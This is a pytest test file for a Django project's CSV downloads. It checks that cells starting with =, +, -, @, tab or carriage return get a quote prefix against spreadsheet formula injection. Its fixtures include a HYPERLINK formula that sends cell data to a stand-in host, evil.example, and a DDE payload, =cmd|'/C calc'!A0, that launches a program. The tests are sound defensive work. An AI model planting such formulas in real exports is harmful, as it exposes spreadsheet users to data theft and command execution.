"""Every CSV a person downloads keeps text as text in a spreadsheet (OWASP CSV injection):
a cell starting with = + - @, tab or carriage return gets a ' in front; numbers stay numbers."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from coproduce.core.spreadsheet import cell_safe, cell_unquote, csv_writer

from .. import factories as f

ROOT = Path(__file__).resolve().parents[2] / "coproduce"
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1", "-2+3", "@SUM(A1)"]
HIDDEN = ["\tx", "\rx"]


@pytest.mark.parametrize("value", ATTACKS + HIDDEN)
def test_a_formula_becomes_text(value):
    assert cell_safe(value) == "'" + value


@pytest.mark.parametrize("value", [-3.5, -2, 0, 7, Decimal("-3.50"), 1e-9, None, True])
def test_numbers_stay_numbers(value):
    assert cell_safe(value) is value


def test_text_that_looks_like_a_number_is_text_too():
    # a spreadsheet would compute '-2+3' = 1 as readily as it shows '-3.5'
    assert cell_safe("-3.5") == "'-3.5"
    assert cell_safe("+358 40 123") == "'+358 40 123"
    assert cell_safe("3.5") == "3.5"


def test_plain_text_and_inner_characters_are_unchanged():
    for value in ["Aino", "a=b", "x-y", "mail@example.org", "", "'quoted"]:
        assert cell_safe(value) == value


def test_unquote_reverses_only_what_cell_safe_added():
    for value in ATTACKS + HIDDEN + ["Aino", "'quoted", "''=x"]:
        assert cell_unquote(cell_safe(value)) == value


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", -3.5, Decimal("-1.25"), "ok"])
    writer.writerows([["@x", 2]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", "-3.5", "-1.25", "ok"], ["'@x", "2"]]


def test_no_download_writes_csv_without_the_safe_writer():
    """The one place: a module that builds a CSV itself would skip the neutralising.
    (The command line's round-trip export in exchange/exporters.py is the exception,
    and says so in its help.)"""
    allowed = {ROOT / "core" / "spreadsheet.py", ROOT / "exchange" / "exporters.py"}
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.rglob("*.py")
        if path not in allowed
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# -- the downloads -----------------------------------------------------------------------


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


@pytest.fixture
def hostile(tenant):
    """People, organisations and initiatives named like formulas."""
    names = ATTACKS + HIDDEN
    orgs = [
        f.OrganisationFactory(tenant=tenant, name=name, kind="ngo") for name in names
    ]
    for n, name in enumerate(names):
        f.PersonFactory(
            tenant=tenant,
            given_name=name,
            family_name=name,
            email=f"p{n}@example.org",
            phone="+358 40 123",
        )
        f.InitiativeFactory(
            tenant=tenant,
            slug=f"i-{n}",
            name=name,
            description=name,
            lead_organisation=orgs[n],
        )
    initiative = f.InitiativeFactory(tenant=tenant, slug="numbers")
    f.ContributionFactory(
        tenant=tenant,
        initiative=initiative,
        description="=1+1",
        estimated_value=Decimal("-3.50"),
    )
    return names


@pytest.mark.parametrize(
    ("kind", "column"),
    [("people", "given_name"), ("organisations", "name"), ("initiatives", "name")],
)
def test_downloads_of_people_organisations_initiatives_carry_no_formula(
    hostile, coordinator_client, kind, column
):
    rows = _cells(coordinator_client.get(f"/t/riverside/exports/{kind}.csv"))
    at = rows[0].index(column)
    shown = {row[at] for row in rows[1:]}
    assert {"'" + name for name in hostile} <= shown
    assert not [
        cell for row in rows[1:] for cell in row if cell[:1] in "=+-@\t\r" and cell
    ]


def test_download_keeps_numbers_as_numbers(hostile, coordinator_client):
    rows = _cells(coordinator_client.get("/t/riverside/exports/contributions.csv"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["estimated_value"] == "-3.50"
    assert row["description"] == "'=1+1"


def test_the_command_line_export_stays_raw_for_round_trips(hostile):
    from django.core.management import call_command

    out = io.StringIO()
    call_command("export", "organisations", tenant="riverside", stdout=out)
    names = [row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert set(hostile) <= set(names)


def test_a_download_imports_back_unchanged(tenant, coordinator_client, other_tenant):
    from coproduce.exchange.importers import import_csv
    from coproduce.people.models import Organisation

    for name in ATTACKS:
        f.OrganisationFactory(tenant=tenant, name=name, kind="ngo")
    body = b"".join(
        coordinator_client.get(
            "/t/riverside/exports/organisations.csv"
        ).streaming_content
    )
    import_csv(kind="organisations", tenant=other_tenant, data=body)
    names = set(
        Organisation.objects.filter(tenant=other_tenant).values_list("name", flat=True)
    )
    assert set(ATTACKS) <= names


def test_sustainability_download_neutralises_rationales(tenant, coordinator_client):
    import datetime as dt

    from coproduce.sustainability.models import Dimension

    initiative = f.InitiativeFactory(
        tenant=tenant,
        slug="shop",
        is_temporary=True,
        start_date=dt.date(2025, 1, 1),
        end_date=dt.date(2025, 6, 30),
    )
    base = f"/t/{tenant.slug}/sustainability/initiatives/{initiative.slug}/"
    data = {"assessed_on": "2026-01-15", "summary": "s"}
    for d in Dimension.values:
        data |= {f"{d}_score": 3, f"{d}_rationale": "=cmd|'/C calc'!A0"}
        data[f"{d}_weakness"] = "@SUM(A1)"
    assert coordinator_client.post(base + "assess/", data).status_code == 302
    rows = _cells(coordinator_client.get(base + "sustainability.csv"))
    assert rows[1][rows[0].index("rationale")] == "'=cmd|'/C calc'!A0"
    assert rows[1][rows[0].index("weakness")] == "'@SUM(A1)"
    assert rows[1][rows[0].index("score")] == "3"
